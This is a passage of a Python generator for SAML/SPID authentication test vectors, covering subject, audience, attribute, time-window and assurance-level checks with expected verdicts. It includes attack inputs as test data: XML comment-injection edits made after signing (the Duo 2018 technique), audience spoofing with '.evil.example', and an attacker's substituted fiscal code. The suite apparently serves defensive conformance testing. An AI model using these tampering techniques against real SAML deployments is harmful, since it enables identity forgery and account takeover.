        flags=("MissingElement", "SubjectConfirmation"),
    )
    case("nameid-empty", "an empty NameID", st(sub + "/NameID", ""), flags=("MissingElement", "SubjectConfirmation"))
    case(
        "nameid-blank", "a NameID of spaces and line feeds", st(sub + "/NameID", "\n   \n"), flags=("MissingElement", "SubjectConfirmation")
    )
    case(
        "nameid-element-child",
        "a NameID holding an element (<idbr:Part>) after its text",
        lambda R: setattr(
            R.find(sub + "/NameID"), "text", R.find(sub + "/NameID").text + '<idbr:Part xmlns:idbr="' + IDBR + '">x</idbr:Part>'
        ),
        flags=("SubjectConfirmation",),
    )
    case("nameid-format-missing", "NameID without Format", da(sub + "/NameID", "Format"), flags=("MissingElement", "SubjectConfirmation"))
    case("nameid-format-empty", 'NameID Format=""', sa(sub + "/NameID", "Format", ""), flags=("MissingElement", "SubjectConfirmation"))
    case(
        "nameid-format-persistent",
        "NameID Format ...nameid-format:persistent",
        sa(sub + "/NameID", "Format", "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent"),
        "saml.subject.invalid",
        ["SubjectConfirmation"],
    )
    case(
        "nameid-format-unspecified",
        "NameID Format ...1.1:nameid-format:unspecified",
        sa(sub + "/NameID", "Format", "urn:oasis:names:tc:SAML:1.1:nameid-format:unspecified"),
        "saml.subject.invalid",
        ["SubjectConfirmation"],
    )
    case(
        "nameid-format-rt-typo",
        "NameID Format ...:nameidformat:transient (the Regole Tecniche typo, no dash)",
        sa(sub + "/NameID", "Format", "urn:oasis:names:tc:SAML:2.0:nameidformat:transient"),
        "saml.subject.invalid",
        ["SubjectConfirmation"],
    )
    case(
        "nameid-namequalifier-missing",
        "NameID without NameQualifier",
        da(sub + "/NameID", "NameQualifier"),
        flags=("MissingElement", "SubjectConfirmation"),
    )
    case(
        "nameid-namequalifier-empty",
        'NameID NameQualifier=""',
        sa(sub + "/NameID", "NameQualifier", ""),
        flags=("MissingElement", "SubjectConfirmation"),
    )
    case(
        "nameid-spnamequalifier-other",
        "NameID SPNameQualifier naming another SP",
        sa(sub + "/NameID", "SPNameQualifier", "https://other-sp.idbridge.test"),
        "saml.subject.invalid",
        ["SubjectConfirmation"],
    )
    sc = sub + "/SubjectConfirmation"
    scd = sc + "/SubjectConfirmationData"
    case("subjectconfirmation-missing", "Subject without SubjectConfirmation", rm(sc), flags=("MissingElement", "SubjectConfirmation"))
    case(
        "subjectconfirmation-two",
        "two identical bearer SubjectConfirmations",
        lambda R: R.find(sub).children.append(copy.deepcopy(R.find(sc))),
        flags=("SubjectConfirmation",),
    )
    case("method-missing", "SubjectConfirmation without Method", da(sc, "Method"), flags=("MissingElement", "SubjectConfirmation"))
    case("method-empty", 'SubjectConfirmation Method=""', sa(sc, "Method", ""), flags=("MissingElement", "SubjectConfirmation"))
    case(
        "method-holder-of-key",
        "SubjectConfirmation Method ...cm:holder-of-key",
        sa(sc, "Method", "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key"),
        "saml.subject.invalid",
        ["SubjectConfirmation"],
    )
    case(
        "method-sender-vouches",
        "SubjectConfirmation Method ...cm:sender-vouches",
        sa(sc, "Method", "urn:oasis:names:tc:SAML:2.0:cm:sender-vouches"),
        "saml.subject.invalid",
        ["SubjectConfirmation"],
    )
    case(
        "scd-missing",
        "SubjectConfirmation without SubjectConfirmationData",
        lambda R: R.find(sc).children.clear(),
        flags=("MissingElement", "SubjectConfirmation"),
    )
    case(
        "scd-recipient-missing",
        "SubjectConfirmationData without Recipient",
        da(scd, "Recipient"),
        flags=("MissingElement", "WrongEndpoint"),
    )
    case("scd-recipient-empty", 'SubjectConfirmationData Recipient=""', sa(scd, "Recipient", ""), flags=("MissingElement", "WrongEndpoint"))
    case(
        "scd-recipient-other",
        "Recipient = another SP's ACS",
        sa(scd, "Recipient", "https://other-sp.idbridge.test/acs"),
        "saml.recipient.mismatch",
        ["WrongEndpoint"],
    )
    case(
        "scd-recipient-query",
        "Recipient = the ACS URL with a query string (?x=1)",
        sa(scd, "Recipient", ACS + "?x=1"),
        "saml.recipient.mismatch",
        ["WrongEndpoint"],
    )
    case(
        "scd-notonorafter-missing",
        "SubjectConfirmationData without NotOnOrAfter",
        da(scd, "NotOnOrAfter"),
        flags=("MissingElement", "ExpiredAssertionReplay"),
    )
    case(
        "scd-notonorafter-empty",
        'SubjectConfirmationData NotOnOrAfter=""',
        sa(scd, "NotOnOrAfter", ""),
        flags=("MissingElement", "ExpiredAssertionReplay"),
    )
    case(
        "scd-inresponseto-missing",
        "SubjectConfirmationData without InResponseTo",
        da(scd, "InResponseTo"),
        flags=("MissingElement", "ForeignOrUnsolicitedResponse"),
    )
    case(
        "scd-inresponseto-empty",
        'SubjectConfirmationData InResponseTo=""',
        sa(scd, "InResponseTo", ""),
        flags=("MissingElement", "ForeignOrUnsolicitedResponse"),
    )
    case(
        "scd-inresponseto-other",
        "SubjectConfirmationData InResponseTo of another request",
        sa(scd, "InResponseTo", "_idbr-spid-req-0000000000000000000"),
        "saml.in_response_to.mismatch",
        ["ForeignOrUnsolicitedResponse"],
    )
    # S10d
    cond = "Assertion/Conditions"
    case("conditions-missing", "the Assertion without Conditions", rm(cond), flags=("MissingElement", "AudienceNotRestricted"))
    case("conditions-notbefore-missing", "Conditions without NotBefore", da(cond, "NotBefore"))
    case("conditions-notbefore-empty", 'Conditions NotBefore=""', sa(cond, "NotBefore", ""))
    case(
        "conditions-notonorafter-missing",
        "Conditions without NotOnOrAfter",
        da(cond, "NotOnOrAfter"),
        flags=("MissingElement", "ExpiredAssertionReplay"),
    )
    case(
        "conditions-notonorafter-empty",
        'Conditions NotOnOrAfter=""',
        sa(cond, "NotOnOrAfter", ""),
        flags=("MissingElement", "ExpiredAssertionReplay"),
    )
    case(
        "audiencerestriction-missing",
        "Conditions with its times but no AudienceRestriction",
        lambda R: R.find(cond).children.clear(),
        flags=("MissingElement", "AudienceNotRestricted"),
    )
    case(
        "audiencerestriction-empty",
        "an empty AudienceRestriction",
        lambda R: R.find(cond + "/AudienceRestriction").children.clear(),
        flags=("MissingElement", "AudienceNotRestricted"),
    )
    case(
        "audience-empty",
        "an empty Audience",
        st(cond + "/AudienceRestriction/Audience", ""),
        flags=("MissingElement", "AudienceNotRestricted"),
    )
    case(
        "audience-other",
        "Audience = another SP",
        st(cond + "/AudienceRestriction/Audience", "https://other-sp.idbridge.test"),
        "saml.audience.mismatch",
        ["AudienceNotRestricted"],
    )
    case(
        "audience-prefix",
        "Audience = this SP's entityID + '.evil.example' (a prefix match)",
        st(cond + "/AudienceRestriction/Audience", SP + ".evil.example"),
        "saml.audience.mismatch",
        ["AudienceNotRestricted"],
    )
    case(
        "audience-trailing-slash",
        "Audience = this SP's entityID + '/'",
        st(cond + "/AudienceRestriction/Audience", SP + "/"),
        "saml.audience.mismatch",
        ["AudienceNotRestricted"],
    )
    case(
        "audience-second-restriction-other",
        "a second AudienceRestriction that names only another SP",
        lambda R: R.find(cond).children.append(
            El("saml:AudienceRestriction", children=[El("saml:Audience", text="https://other-sp.idbridge.test")])
        ),
        "saml.audience.mismatch",
        ["AudienceNotRestricted"],
    )
    case(
        "condition-unknown-element",
        "Conditions with an unknown condition element (idbr:GeoFence)",
        lambda R: R.find(cond).children.append(El("idbr:GeoFence", [("xmlns:idbr", IDBR)], text="IT")),
        flags=("UnknownCondition",),
    )
    case(
        "condition-generic",
        "Conditions with a generic saml:Condition (xsi:type idbr:Custom)",
        lambda R: R.find(cond).children.append(El("saml:Condition", [("xmlns:idbr", IDBR), ("xsi:type", "idbr:Custom")])),
        flags=("UnknownCondition",),
    )
    # S10e
    ast = "Assertion/AuthnStatement"
    case("authnstatement-missing", "the Assertion without AuthnStatement", rm(ast))
    case(
        "authnstatement-two",
        "two identical AuthnStatements",
        lambda R: R.find("Assertion").insert_after("AuthnStatement", copy.deepcopy(R.find(ast))),
    )
    case(
        "authnstatement-two-levels",
        "two AuthnStatements, SpidL2 then SpidL1",
        lambda R: R.find("Assertion").insert_after(
            "AuthnStatement",
            (lambda c: (setattr(c.find("AuthnContext/AuthnContextClassRef"), "text", LVL + "SpidL1"), c)[1])(copy.deepcopy(R.find(ast))),
        ),
    )
    case("authninstant-missing", "AuthnStatement without AuthnInstant", da(ast, "AuthnInstant"))
    case("authninstant-empty", 'AuthnStatement AuthnInstant=""', sa(ast, "AuthnInstant", ""))
    case("authncontext-missing", "AuthnStatement without AuthnContext", lambda R: R.find(ast).children.clear())
    case(
        "authncontextclassref-missing",
        "AuthnContext without AuthnContextClassRef",
        lambda R: R.find(ast + "/AuthnContext").children.clear(),
    )
    case("authncontextclassref-empty", "an empty AuthnContextClassRef", st(ast + "/AuthnContext/AuthnContextClassRef", ""))
    # S10f
    stmt = "Assertion/AttributeStatement"
    A = "saml.attribute.invalid"
    case(
        "attributestatement-empty",
        "an AttributeStatement without Attribute",
        lambda R: R.find(stmt).children.clear(),
        A,
        ["AttributeAmbiguity"],
    )
    case(
        "attribute-name-missing",
        "an Attribute (email) without Name",
        lambda R: attribute_el(R, "email").delete("Name"),
        A,
        ["AttributeAmbiguity"],
    )
    case(
        "attribute-name-empty",
        'an Attribute (email) with Name=""',
        lambda R: attribute_el(R, "email").set("Name", ""),
        A,
        ["AttributeAmbiguity"],
    )
    case(
        "attribute-no-value",
        "the email Attribute without AttributeValue",
        lambda R: attribute_el(R, "email").children.clear(),
        A,
        ["AttributeAmbiguity"],
    )
    case(
        "attribute-two-values",
        "fiscalNumber with two AttributeValues (the genuine one, then another)",
        lambda R: attribute_el(R, "fiscalNumber").children.append(El("saml:AttributeValue", [("xsi:type", "xs:string")], text=MALLORY_CF)),
        A,
        ["AttributeAmbiguity"],
    )
    case(
        "attribute-twice",
        "the fiscalNumber Attribute twice, with two values",
        lambda R: R.find(stmt).children.append(
            El(
                "saml:Attribute",
                [("Name", "fiscalNumber"), ("NameFormat", BASIC)],
                [El("saml:AttributeValue", [("xsi:type", "xs:string")], text=MALLORY_CF)],
            )
        ),
        A,
        ["AttributeAmbiguity"],
    )
    case(
        "attribute-element-value",
        "the fiscalNumber AttributeValue holding an element (<idbr:Code>) instead of text",
        set_value("fiscalNumber", f'<idbr:Code xmlns:idbr="{IDBR}">{GIULIA["fiscalNumber"]}</idbr:Code>'),
        A,
        ["AttributeAmbiguity"],
    )
    case(
        "attributestatement-two",
        "two AttributeStatements (email in the second)",
        lambda R: R.find("Assertion").children.append(El("saml:AttributeStatement", children=[R.find(stmt).children.pop()])),
        A,
        ["AttributeAmbiguity"],
    )
    # S11
    for slug, name, value, what in [
        ("fiscalnumber-no-prefix", "fiscalNumber", GIULIA["fiscalNumber"][6:], "fiscalNumber without the TINIT- prefix"),
        (
            "fiscalnumber-lowercase-prefix",
            "fiscalNumber",
            "tinit-" + GIULIA["fiscalNumber"][6:],
            "fiscalNumber with the prefix in lower case (tinit-)",
        ),
        ("fiscalnumber-prefix-only", "fiscalNumber", "TINIT-", "fiscalNumber 'TINIT-' with nothing after it"),
        ("fiscalnumber-empty", "fiscalNumber", "", "an empty fiscalNumber"),
        ("name-empty", "name", "  ", "a name of two spaces"),
        ("familyname-empty", "familyName", "", "an empty familyName"),
        ("dateofbirth-short", "dateOfBirth", "1985-7-14", "dateOfBirth 1985-7-14 (month without its leading zero)"),
        ("dateofbirth-impossible", "dateOfBirth", "1985-02-30", "dateOfBirth 1985-02-30 (no such day)"),
        ("dateofbirth-italian", "dateOfBirth", "14/07/1985", "dateOfBirth 14/07/1985"),
        ("dateofbirth-timezone", "dateOfBirth", "1985-07-14Z", "dateOfBirth 1985-07-14Z (an xs:date with a zone)"),
        ("dateofbirth-datetime", "dateOfBirth", "1985-07-14T00:00:00Z", "dateOfBirth as a dateTime"),
    ]:
        case(slug, what, set_value(name, esc(value)), A, ["AttributeFormat"])


def text_cases(out):
    B = out.base()
    A1 = B.but(resp_sig=None)
    vf = out.vfile(
        "text.json",
        "how text values are read: comments, CDATA, character references, processing instructions",
        [
            "Values edited after signing in ways exc-c14n (without comments) does not see, and one it does see.",
            f"Generated by {GEN}. The documents are the reference Response (Response unsigned, Assertion signed, unless stated) edited after signing: the signature stays valid and the value must be read as the concatenation of the element's text nodes.",
        ],
    )
    g = vf.group(
        f"Duo Labs, Duo Finds SAML Vulnerabilities Affecting Multiple Implementations (2018), VU#475445; exc-c14n 1.0 (comments removed); XML 1.0 2.7 (CDATA), 4.1 (character references), 2.6 (processing instructions); {SRC_SPEC} conventions ('text' of an element)"
    )
    cf = GIULIA["fiscalNumber"]
    ident = identity_of(A1)
    f = out.doc(
        "comment-in-fiscalnumber",
        "fiscalNumber written TINIT-<!---->BNCGLI... after signing (Response unsigned)",
        A1,
        post=rep(">" + cf + "<", ">TINIT-<!---->" + cf[6:] + "<"),
    )
    g.valid(
        "a comment inserted after 'TINIT-' in the fiscalNumber after signing: the signature is valid and subject_id is the full code (a first-text-node reader gets 'TINIT-')",
        f,
        ident,
        ["CommentInjection"],
    )
    f = out.doc(
        "comment-in-fiscalnumber-middle",
        "fiscalNumber with a comment in the middle of the code, inserted after signing (Response unsigned)",
        A1,
        post=rep(">" + cf + "<", ">" + cf[:12] + "<!-- idbr -->" + cf[12:] + "<"),
    )
    g.valid("a comment in the middle of the fiscal code, after signing: read in full", f, ident, ["CommentInjection"])
    f = out.doc(
        "comment-in-fiscalnumber-both-signed",
        "fiscalNumber with a comment inserted after signing, Response and Assertion signed",
        post=rep(">" + cf + "<", ">TINIT-<!---->" + cf[6:] + "<"),
    )
    g.valid(
        "the same comment in a Response whose both signatures are present: both still verify (the Response digest drops the comment too)",
        f,
        identity_of(B),
        ["CommentInjection"],
    )
    nid = hid("comment-in-nameid/nameid", 32)
    f = out.doc(
        "comment-in-nameid",
        "the NameID written with a comment inside, after signing",
        A1,
        post=rep(">" + nid + "<", ">" + nid[:9] + "<!---->" + nid[9:] + "<"),
    )
    g.valid("a comment inside the NameID after signing: still non-empty, still valid", f, ident, ["CommentInjection"])
    evil_mail = "admin@idbridge.test.evil.example"
    pm = A1.but(person=dict(GIULIA, email=evil_mail))
    f = out.doc(
        "comment-in-email",
        "email admin@idbridge.test.evil.example signed, then written admin@idbridge.test<!---->.evil.example",
        pm,
        post=rep(">" + evil_mail + "<", ">admin@idbridge.test<!---->.evil.example<"),
    )
    g.valid(
        "the Duo attack on an attribute: the signed value is the attacker's own address; a first-text-node reader sees 'admin@idbridge.test'. attributes.email must be the full signed value",
        f,
        identity_of(pm),
        ["CommentInjection"],
    )
    f = out.doc(
        "comment-in-issuer",
        "the Assertion Issuer written https://idp.idbridge.test<!---->/spid after signing",
        A1,
        post=rep(
            f'nameid-format:entity">{SPID_IDP}</saml:Issuer>\n    <ds:Signature',
            'nameid-format:entity">https://idp.idbridge.test<!---->/spid</saml:Issuer>\n    <ds:Signature',
        ),
    )
    g.valid(
        "a comment inside the Assertion Issuer after signing: the Issuer is the concatenated text and still names the trusted IdP",
        f,
        ident,
        ["CommentInjection"],
    )
    f = out.doc(
        "comment-in-classref",
        "AuthnContextClassRef written https://www.spid.gov.it/Spid<!---->L2 after signing",
        A1,
        post=rep(">https://www.spid.gov.it/SpidL2<", ">https://www.spid.gov.it/Spid<!---->L2<"),
    )
    g.valid("a comment inside the AuthnContextClassRef after signing: the level is read in full (SpidL2)", f, ident, ["CommentInjection"])
    f = out.doc(
        "cdata-in-fiscalnumber",
        "fiscalNumber written TINIT-<![CDATA[BNCGLI...]]> after signing",
        A1,
        post=rep(">" + cf + "<", ">TINIT-<![CDATA[" + cf[6:] + "]]><"),
    )
    g.valid(
        "part of the fiscalNumber turned into a CDATA section after signing: c14n writes it as text, the value is the same",
        f,
        ident,
        ["TextForms"],
    )
    f = out.doc(
        "charref-in-fiscalnumber", "fiscalNumber written &#84;INIT-... after signing", A1, post=rep(">" + cf + "<", ">&#84;" + cf[1:] + "<")
    )
    g.valid(
        "a character reference (&#84; for T) written into the fiscalNumber after signing: same characters, same c14n",
        f,
        ident,
        ["TextForms"],
    )
    f = out.doc(
        "pi-in-fiscalnumber",
        "fiscalNumber with a processing instruction <?idbr x?> inserted after signing",
        A1,
        post=rep(">" + cf + "<", ">TINIT-<?idbr x?>" + cf[6:] + "<"),
    )
    g.invalid(
        "a processing instruction inserted into the fiscalNumber after signing: c14n keeps PIs, so the digest no longer matches",
        f,
        "xmldsig.digest.mismatch",
        ["TextForms", "TamperedAfterSigning"],
    )
    f = out.doc(
        "comment-in-signed-value-changes",
        "fiscalNumber edited after signing to TINIT-<!---->VLEMLR... (the attacker's code after the comment)",
        A1,
        post=rep(">" + cf + "<", ">TINIT-<!---->" + MALLORY_CF[6:] + "<"),
    )
    g.invalid(
        "a comment plus a changed code: the concatenated value differs from what was signed, the digest fails",
        f,
        "xmldsig.digest.mismatch",
        ["CommentInjection", "TamperedAfterSigning"],
    )


def at(base, seconds=0, ms=None):
    t = datetime.datetime.strptime(base, "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=datetime.timezone.utc) + datetime.timedelta(seconds=seconds)
    s = t.strftime("%Y-%m-%dT%H:%M:%S")
    return s + (f".{ms:03d}" if ms is not None else "") + "Z"


def time_cases(out):
    B = out.base()
    II, NOW, REQ = "2026-03-01T10:00:10Z", SPID_NOW, SPID_REQ_II
    fixed = dict(ii=II, a_ii=II, nb=II, noa="2026-03-01T10:05:10Z", scd_noa="2026-03-01T10:05:10Z")
    vf = out.vfile(
        "time.json",
        "time windows and time formats",
        [
            "Both sides of every time bound (IssueInstant, NotBefore, NotOnOrAfter of Conditions and SubjectConfirmationData), to the second and to the millisecond, with skew 0 and 5 s; the 300 s maximum IssueInstant age; malformed xs:dateTime values.",
            f"Generated by {GEN}. now = {NOW} unless a case says otherwise; the AuthnRequest was sent at {REQ}. One value moves per case, the others stay at the reference values (IssueInstant and NotBefore {II}, NotOnOrAfter 10:05:10Z), and the Response is signed with it.",
        ],
    )
    src = f"SAML core 2.0 1.3.3 (UTC times), 2.5.1.2 (NotBefore, NotOnOrAfter); {RT_RESP} (Processamento: IssueInstant, NotOnOrAfter); {SRC_SPEC} section 1.3"
    g = vf.group(src + " (skew 0)")

    def tcase(slug, what, result, code=None, skew_note="", **vals):
        p = B.but(**dict(fixed, **vals))
        f = out.doc(slug, what, p)
        flags = ["TimeBoundary"] + (["ExpiredAssertionReplay"] if code == "saml.time.expired" else [])
        if result == "valid":
            g.valid(what, f, identity_of(p), flags)
        else:
            g.invalid(what, f, code, flags)

    tcase("notonorafter-eq-now", "Conditions NotOnOrAfter = now: expired (equality is expired)", "invalid", "saml.time.expired", noa=NOW)
    tcase("notonorafter-now-plus-1s", "Conditions NotOnOrAfter = now + 1 s: valid", "valid", noa=at(NOW, 1))
    tcase(
        "notonorafter-now-plus-1ms", "Conditions NotOnOrAfter = now + 1 ms: valid (compared below the second)", "valid", noa=at(NOW, 0, 1)
    )
    tcase(
        "notonorafter-now-minus-1ms", "Conditions NotOnOrAfter = now - 1 ms: expired", "invalid", "saml.time.expired", noa=at(NOW, -1, 999)
    )
    tcase("notbefore-eq-now", "Conditions NotBefore = now: valid", "valid", nb=NOW)
    tcase("notbefore-now-plus-1s", "Conditions NotBefore = now + 1 s: not yet valid", "invalid", "saml.time.not_yet_valid", nb=at(NOW, 1))
    tcase(
        "notbefore-now-plus-1ms",
        "Conditions NotBefore = now + 1 ms: not yet valid (a whole-second reader that truncates would accept it)",
        "invalid",
        "saml.time.not_yet_valid",
        nb=at(NOW, 0, 1),
    )
    tcase("response-ii-eq-now", "Response IssueInstant = now: valid", "valid", ii=NOW)
    tcase(
        "response-ii-now-plus-1s",
        "Response IssueInstant = now + 1 s (issued in the future): invalid",
        "invalid",
        "saml.time.invalid",
        ii=at(NOW, 1),
    )
    tcase("response-ii-now-plus-1ms", "Response IssueInstant = now + 1 ms: invalid", "invalid", "saml.time.invalid", ii=at(NOW, 0, 1))
    tcase("assertion-ii-eq-now", "Assertion IssueInstant = now: valid", "valid", a_ii=NOW)
    tcase("assertion-ii-now-plus-1s", "Assertion IssueInstant = now + 1 s: invalid", "invalid", "saml.time.invalid", a_ii=at(NOW, 1))
    tcase("response-ii-eq-request", "Response IssueInstant = the AuthnRequest's IssueInstant: valid", "valid", ii=REQ)
    tcase(
        "response-ii-request-minus-1s",
        "Response IssueInstant 1 s before the AuthnRequest's: invalid",
        "invalid",
        "saml.time.invalid",
        ii=at(REQ, -1),
    )
    tcase("assertion-ii-eq-request", "Assertion IssueInstant = the AuthnRequest's: valid", "valid", a_ii=REQ)
    tcase(
        "assertion-ii-request-minus-1s",
        "Assertion IssueInstant 1 s before the AuthnRequest's: invalid",
        "invalid",
        "saml.time.invalid",
        a_ii=at(REQ, -1),
    )
    tcase("scd-notonorafter-eq-now", "SubjectConfirmationData NotOnOrAfter = now: expired", "invalid", "saml.time.expired", scd_noa=NOW)
    tcase("scd-notonorafter-now-plus-1s", "SubjectConfirmationData NotOnOrAfter = now + 1 s: valid", "valid", scd_noa=at(NOW, 1))
    for slug, what, result, code, nbv in [
        (
            "scd-notbefore-eq-now",
            "SubjectConfirmationData NotBefore = now (SAML profiles forbid it for bearer, accepted when satisfied): valid",
            "valid",
            None,
            NOW,
        ),
        (
            "scd-notbefore-now-plus-1s",
            "SubjectConfirmationData NotBefore = now + 1 s: not yet valid",
            "invalid",
            "saml.time.not_yet_valid",
            at(NOW, 1),
        ),
    ]:
        p = B.but(**fixed)
        f = out.doc(slug, what, p, edit=sa("Assertion/Subject/SubjectConfirmation/SubjectConfirmationData", "NotBefore", nbv))
        (g.valid(what, f, identity_of(p), ["TimeBoundary"]) if result == "valid" else g.invalid(what, f, code, ["TimeBoundary"]))

    g = vf.group(src + " (skew 5 s: every bound widened by 5 s)", clock_skew_seconds=5)
    tcase(
        "skew-notonorafter-now-minus-5s",
        "skew 5 s, Conditions NotOnOrAfter = now - 5 s: expired",
        "invalid",
        "saml.time.expired",
        noa=at(NOW, -5),
    )
    tcase("skew-notonorafter-now-minus-4s", "skew 5 s, Conditions NotOnOrAfter = now - 4 s: valid", "valid", noa=at(NOW, -4))
    tcase(
        "skew-scd-notonorafter-now-minus-5s",
        "skew 5 s, SubjectConfirmationData NotOnOrAfter = now - 5 s: expired",
        "invalid",
        "saml.time.expired",
        scd_noa=at(NOW, -5),
    )
    tcase(
        "skew-scd-notonorafter-now-minus-4s",
        "skew 5 s, SubjectConfirmationData NotOnOrAfter = now - 4 s: valid",
        "valid",
        scd_noa=at(NOW, -4),
    )
    tcase("skew-notbefore-now-plus-5s", "skew 5 s, Conditions NotBefore = now + 5 s: valid", "valid", nb=at(NOW, 5))
    tcase(
        "skew-notbefore-now-plus-6s",
        "skew 5 s, Conditions NotBefore = now + 6 s: not yet valid",
        "invalid",
        "saml.time.not_yet_valid",
        nb=at(NOW, 6),
    )
    tcase("skew-ii-now-plus-5s", "skew 5 s, Response IssueInstant = now + 5 s: valid", "valid", ii=at(NOW, 5))
    tcase(
        "skew-ii-now-plus-5s-1ms",
        "skew 5 s, Response IssueInstant = now + 5.001 s: invalid",
        "invalid",
        "saml.time.invalid",
        ii=at(NOW, 5, 1),
    )
    tcase("skew-ii-request-minus-5s", "skew 5 s, Response IssueInstant 5 s before the AuthnRequest's: valid", "valid", ii=at(REQ, -5))
    tcase(
        "skew-ii-request-minus-6s",
        "skew 5 s, Response IssueInstant 6 s before the AuthnRequest's: invalid",
        "invalid",
        "saml.time.invalid",
        ii=at(REQ, -6),
    )

    g = vf.group(
        src + "; maximum IssueInstant age 300 s (the default of the verifier); no request_issue_instant in the context",
        request_issue_instant=None,
        now="2026-03-01T10:05:10Z",
    )
    long = dict(fixed, noa="2026-03-01T10:15:10Z", scd_noa="2026-03-01T10:15:10Z")
    p = B.but(**long)
    f = out.doc(
        "age-window", "IssueInstant 10:00:10Z with NotOnOrAfter 10:15:10Z (a long validity, so only the IssueInstant age matters)", p
    )
    g.valid(
        "no request IssueInstant known; now = IssueInstant + 300 s: exactly the maximum age, valid", f, identity_of(p), ["TimeBoundary"]
    )
    g.invalid(
        "the same Response at now = IssueInstant + 301 s: older than the 300 s maximum age",
        f,
        "saml.time.invalid",
        ["TimeBoundary"],
        context={"now": "2026-03-01T10:05:11Z"},
    )
    g.valid(
        "skew 5 s, now = IssueInstant + 305 s: valid (the age bound widens by the skew)",
        f,
        identity_of(p),
        ["TimeBoundary"],
        context={"now": "2026-03-01T10:05:15Z", "clock_skew_seconds": 5},
    )
    g.invalid(
        "skew 5 s, now = IssueInstant + 306 s: invalid",
        f,
        "saml.time.invalid",
        ["TimeBoundary"],
        context={"now": "2026-03-01T10:05:16Z", "clock_skew_seconds": 5},
    )
    pa = B.but(**dict(long, ii="2026-03-01T10:00:11Z"))
    f = out.doc("age-assertion-only", "Response IssueInstant 10:00:11Z, Assertion IssueInstant 10:00:10Z, NotOnOrAfter 10:15:10Z", pa)
    g.invalid(
        "now = 10:05:11Z: the Response is 300 s old (fine), the Assertion 301 s (too old)",
        f,
        "saml.time.invalid",
        ["TimeBoundary"],
        context={"now": "2026-03-01T10:05:11Z"},
    )

    g = vf.group(src + "; xs:dateTime lexical space (XML Schema 2, 3.2.7) restricted to UTC 'Z' (SAML core 1.3.3)")
    for slug, value, what in [
        ("ii-no-z", "2026-03-01T10:00:10", "no time zone (local time)"),
        ("ii-offset-zero", "2026-03-01T10:00:10+00:00", "the offset +00:00 instead of Z"),
        ("ii-offset-one", "2026-03-01T11:00:10+01:00", "the same instant written with +01:00"),
        ("ii-space", "2026-03-01 10:00:10Z", "a space instead of T"),
        ("ii-lowercase-t", "2026-03-01t10:00:10Z", "a lowercase t"),
        ("ii-lowercase-z", "2026-03-01T10:00:10z", "a lowercase z"),
        ("ii-leap-second", "2026-03-01T10:00:60Z", "second 60 (a leap second)"),
        ("ii-hour-24", "2026-03-01T24:00:00Z", "hour 24"),
        ("ii-feb-30", "2026-02-30T10:00:10Z", "30 February"),
        ("ii-date-only", "2026-03-01", "a date without time"),
        ("ii-no-seconds", "2026-03-01T10:00Z", "no seconds"),
        ("ii-empty-fraction", "2026-03-01T10:00:10.Z", "a decimal point without digits"),
        ("ii-comma-fraction", "2026-03-01T10:00:10,5Z", "a comma as decimal separator"),
        ("ii-two-digit-year", "26-03-01T10:00:10Z", "a two-digit year"),
        ("ii-signed-year", "+2026-03-01T10:00:10Z", "a year with a sign"),
        ("ii-unix", "1772359210", "Unix seconds"),
    ]:
        f = out.doc("time-" + slug, f'Response IssueInstant "{value}" ({what}), signed', B.but(**dict(fixed, ii=value)))
        g.invalid(f'Response IssueInstant "{value}": {what}', f, "saml.time.invalid", ["TimeFormat"])
    p = B.but(**dict(fixed, ii=" " + II + " "))
    f = out.doc("time-ii-whitespace", "Response IssueInstant with a space before and after, signed", p)
    g.valid(
        "Response IssueInstant with spaces around it: times are read after trimming",
        f,
        identity_of(B.but(**fixed)),
        ["TimeFormat", "Tolerance"],
    )
    bad = "2026-03-01T10:00:10"
    for slug, path, attr, what in [
        ("assertion-ii", "Assertion", "IssueInstant", "Assertion IssueInstant"),
        ("conditions-notbefore", "Assertion/Conditions", "NotBefore", "Conditions NotBefore"),
        ("conditions-notonorafter", "Assertion/Conditions", "NotOnOrAfter", "Conditions NotOnOrAfter"),
        (
            "scd-notonorafter",
            "Assertion/Subject/SubjectConfirmation/SubjectConfirmationData",
            "NotOnOrAfter",
            "SubjectConfirmationData NotOnOrAfter",
        ),
        (
            "scd-notbefore",
            "Assertion/Subject/SubjectConfirmation/SubjectConfirmationData",
            "NotBefore",
            "SubjectConfirmationData NotBefore",
        ),
        ("authninstant", "Assertion/AuthnStatement", "AuthnInstant", "AuthnInstant"),
    ]:
        value = bad if attr != "NotOnOrAfter" else "2026-03-01T10:05:10"
        f = out.doc("time-" + slug + "-no-z", f'{what} "{value}" (no Z), signed', B.but(**fixed), edit=sa(path, attr, value))
        g.invalid(f'{what} without Z ("{value}")', f, "saml.time.invalid", ["TimeFormat"])


def level_cases(out):
    B = out.base()
    vf = out.vfile(
        "level.json",
        "the SPID level (AuthnContextClassRef) against the request (min_level, comparison)",
        [
            "Returned level x requested level x comparison (36 cases over 3 Responses), and AuthnContextClassRef values that are not SPID levels.",
            f"Generated by {GEN}. Rule: a higher level is always accepted; an equal level unless the comparison is better; a lower level only under maximum (SPID Regole Tecniche, AuthnRequest N.B.; italia/spid-sp-test response_mods.py dynamic_acr).",
        ],
    )
    g = vf.group(
        f"{RT_RESP} (AuthnRequest: RequestedAuthnContext Comparison, N.B. on higher levels); SAML core 2.0 3.3.2.2.1; {SRC_SPEC} section 2.6"
    )
    files = {}
    for lv in (1, 2, 3):
        p = B.but(level=f"SpidL{lv}")
        files[lv] = (out.doc(f"level-spidl{lv}", f"the reference Response returning https://www.spid.gov.it/SpidL{lv}", p), p)
    for ret in (1, 2, 3):
        f, p = files[ret]
        for req in (1, 2, 3):
            for cmp in ("minimum", "exact", "better", "maximum"):
                ok = ret > req or (ret == req and cmp != "better") or (ret < req and cmp == "maximum")
                ctx = {"min_level": f"SpidL{req}", "comparison": cmp}
                rel = "higher than" if ret > req else ("equal to" if ret == req else "lower than")
                what = f"returned SpidL{ret}, requested SpidL{req} {cmp}: {rel} the request"
                if ok:
                    flags = ["SpidHigherLevelAllowed"] if ret > req and cmp in ("exact", "maximum") else []
                    why = {True: " (higher is always accepted)", False: ""}[ret > req] if ret != req else ""
                    if ret < req:
                        why = " (maximum sets no floor)"
                    g.valid(what + ", accepted" + why, f, identity_of(p), flags, context=ctx)
                else:
                    why = " (better needs a strictly higher level)" if ret == req else ""
                    g.invalid(what + ", refused" + why, f, "saml.authn_context.insufficient", ["LevelDowngrade"], context=ctx)
    g = vf.group(
